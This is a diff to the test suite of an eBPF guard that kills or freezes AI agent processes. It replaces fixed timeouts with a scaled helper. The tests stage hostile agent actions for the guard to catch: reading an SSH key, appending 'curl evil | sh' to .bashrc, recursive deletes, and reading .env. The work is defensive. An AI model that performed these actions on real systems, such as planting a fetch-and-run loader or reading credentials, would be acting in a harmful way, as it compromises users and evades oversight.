@@ -12,6 +12,7 @@ import select
 import subprocess
 import sys
 import textwrap
+import time
 import uuid
 from collections.abc import Iterator
 from pathlib import Path
@@ -20,7 +21,7 @@ import pytest
 
 from ebpf_guard import cgroups
 from tests.conftest import requires_bpf
-from tests.helpers import REPO, GuardRun, guard, policy_extending, records, wait_for
+from tests.helpers import REPO, GuardRun, guard, policy_extending, records, scaled, wait_for
 
 pytestmark = requires_bpf
 PY = sys.executable
@@ -41,7 +42,7 @@ def verdicts_of(log: Path) -> list[tuple[str, str]]:
 
 def assert_frozen_then_kill(run: GuardRun) -> None:
     cg = run.cgroup()
-    assert cgroups.wait_frozen(cg, 10), f"{cg} was not frozen"
+    assert cgroups.wait_frozen(cg, scaled(10)), f"{cg} was not frozen"
     assert guard("kill", "--cgroup", str(cg)).returncode == 0
     assert run.wait() == EXIT_HALTED, run.err
 
@@ -55,7 +56,7 @@ def test_ssh_key_read_kills_the_reader(tmp_cgroup, tmp_path, ws, agent_user):
     subprocess.run(["chown", "-R", f"{user}:{user}", str(home)], check=True)
     marker = tmp_path / "survived"
     log = tmp_path / "v.jsonl"
-    code = f"import time; open({str(key)!r}).read(); time.sleep(3); open({str(marker)!r}, 'w')"
+    code = f"import time; open({str(key)!r}).read(); time.sleep({scaled(3)}); open({str(marker)!r}, 'w')"
     with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
     assert not marker.exists()
@@ -74,13 +75,13 @@ def test_kill_is_logged_before_the_process_dies(tmp_cgroup, tmp_path, ws):
         open({str(pidfile)!r}, 'w').write(str(os.getpid()))
         while not os.path.exists({str(go)!r}): time.sleep(0.001)
         open({str(key)!r}).read()
-        time.sleep(5)
+        time.sleep({scaled(5)})
     """
     with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
         pid = int(wait_for(lambda: pidfile.exists() and pidfile.read_text(), timeout=30))
         pidfd = os.pidfd_open(pid)
         go.touch()
-        assert select.select([pidfd], [], [], 10)[0], "agent was not killed"
+        assert select.select([pidfd], [], [], scaled(10))[0], "agent was not killed"
         seen_on_disk = [r["rule"] for r in records(log) if r["verdict"] == "KILL"]
         os.close(pidfd)
         assert run.wait() == EXIT_KILLED
@@ -91,7 +92,7 @@ def test_agent_config_write_is_killed(tmp_cgroup, tmp_path, ws, agent_user):
     user, home = agent_user
     marker = tmp_path / "survived"
     code = (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n'); "
-            f"import time; time.sleep(3); open({str(marker)!r}, 'w')")
+            f"import time; time.sleep({scaled(3)}); open({str(marker)!r}, 'w')")
     log = tmp_path / "v.jsonl"
     with GuardRun(tmp_cgroup, log, ["runuser", "-u", user, "--", SYS_PY, "-c", code], workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
@@ -105,7 +106,7 @@ def test_deny_write_path_is_killed(tmp_cgroup, tmp_path, ws):
     policy = policy_extending(tmp_path, f"deny_write: [{target.parent}/**]\n")
     assert guard("check", str(policy)).returncode == 0
     log = tmp_path / "v.jsonl"
-    code = f"open({str(target)!r}, 'w').write('x'); import time; time.sleep(3)"
+    code = f"open({str(target)!r}, 'w').write('x'); import time; time.sleep({scaled(3)})"
     with GuardRun(tmp_cgroup, log, agent(code), policy=policy, workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
     assert ("KILL", "deny-write") in verdicts_of(log)
@@ -131,7 +132,7 @@ def test_relative_recursive_rm_is_judged_where_it_runs(tmp_cgroup, tmp_path, ws,
         (parent / "build").mkdir()
         (parent / "build" / "f").write_text("x")
     log = tmp_path / "v.jsonl"
-    cmd = ["sh", "-c", f"cd {tmp_path} && rm -r build; cd {outside} && rm -r build; sleep 3"]
+    cmd = ["sh", "-c", f"cd {tmp_path} && rm -r build; cd {outside} && rm -r build; sleep {scaled(3)}"]
     with GuardRun(tmp_cgroup, log, cmd, workspace=ws) as run:
         assert run.wait() == EXIT_KILLED, run.err
     assert not (tmp_path / "build").exists()
@@ -162,7 +163,7 @@ def test_halt_is_logged_before_the_cgroup_is_frozen(tmp_cgroup, tmp_path, ws, ou
         import os, time
         while not os.path.exists({str(go)!r}): time.sleep(0.001)
         open({str(outside / 'out.txt')!r}, 'w').write('x')
-        time.sleep(5)
+        time.sleep({scaled(5)})
     """
     with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
         cg = run.cgroup()
@@ -173,7 +174,8 @@ def test_halt_is_logged_before_the_cgroup_is_frozen(tmp_cgroup, tmp_path, ws, ou
             events.read()
             go.touch()
             frozen, seen_on_disk = False, []
-            for _ in range(200):
+            deadline = time.monotonic() + scaled(20)
+            while time.monotonic() < deadline:
                 poller.poll(100)
                 events.seek(0)
                 if "frozen 1" in events.read():
@@ -193,7 +195,7 @@ def test_fast_deletes_are_halted(tmp_cgroup, tmp_path, ws):
         import os, time
         for i in range(10):
             os.unlink(os.path.join({str(ws)!r}, f"f{{i}}.txt"))
-            time.sleep(0.05)
+            time.sleep({scaled(0.05)})
         open({str(marker)!r}, 'w')
     """
     log = tmp_path / "v.jsonl"
@@ -201,12 +203,14 @@ def test_fast_deletes_are_halted(tmp_cgroup, tmp_path, ws):
         assert_frozen_then_kill(run)
     assert ("HALT", "mass-delete") in verdicts_of(log)
     assert not marker.exists()
-    assert len(list(ws.glob("f*.txt"))) >= 6  # frozen right after the 3rd delete
+    # Frozen right after the 3rd delete: within 2 of the agent's pauses (0.05 s each on real
+    # hardware, the product requirement; stretched with the rest on slow hosts).
+    assert len(list(ws.glob("f*.txt"))) >= 6
 
 
 def test_write_outside_workspace_is_halted(tmp_cgroup, tmp_path, ws, outside):
     log = tmp_path / "v.jsonl"
-    code = f"open({str(outside / 'x')!r}, 'w').write('x'); import time; time.sleep(5)"
+    code = f"open({str(outside / 'x')!r}, 'w').write('x'); import time; time.sleep({scaled(5)})"
     with GuardRun(tmp_cgroup, log, agent(code), workspace=ws) as run:
         assert_frozen_then_kill(run)
     (rec,) = [r for r in records(log) if r["verdict"] == "HALT"]
@@ -236,7 +240,7 @@ def test_network_burst_is_halted(tmp_cgroup, tmp_path, ws, netns):
         for _ in range(60):
             c = socket.create_connection(({addr!r}, port)); c.close(); srv.accept()[0].close()
         open({str(marker)!r}, 'w')
-        import time; time.sleep(5)
+        import time; time.sleep({scaled(5)})
     """
     log = tmp_path / "v.jsonl"
     with GuardRun(tmp_cgroup, log, ["ip", "netns", "exec", name, *agent(code)], workspace=ws) as run:
@@ -254,11 +258,11 @@ def test_connect_rule_by_host_name_uses_resolved_addresses(tmp_cgroup, tmp_path,
             connect: {host: localhost, port: 5433}
             verdict: KILL
     """))
-    code = """
+    code = f"""
         import socket, time
         srv = socket.create_server(("127.0.0.1", 5433))
         socket.create_connection(("127.0.0.1", 5433)).close()
-        time.sleep(3)
+        time.sleep({scaled(3)})
     """
     log = tmp_path / "v.jsonl"
     with GuardRun(tmp_cgroup, log, agent(code), policy=policy, workspace=ws) as run:
@@ -368,7 +372,8 @@ def test_unwritable_log_freezes_the_agent(tmp_cgroup, tmp_path, ws):
         code = f"""
             import os, time
             while not os.path.exists({str(go)!r}): time.sleep(0.001)
-            for _ in range(2000):
+            end = time.monotonic() + {scaled(10)}  # frozen long before, or the test fails
+            while time.monotonic() < end:
                 open({str(ws / '.env')!r}).read()
                 time.sleep(0.001)
         """
@@ -379,7 +384,7 @@ def test_unwritable_log_freezes_the_agent(tmp_cgroup, tmp_path, ws):
             subprocess.run(["dd", "if=/dev/zero", f"of={logdir / 'filler'}", "bs=4k"],
                            capture_output=True)
             go.touch()
-            assert cgroups.wait_frozen(cg, 20), "agent not frozen after the log failed"
+            assert cgroups.wait_frozen(cg, scaled(20)), "agent not frozen after the log failed"
             assert guard("kill", "--cgroup", str(cg)).returncode == 0
             assert run.wait() == EXIT_HALTED
         assert "fail-closed" in run.err
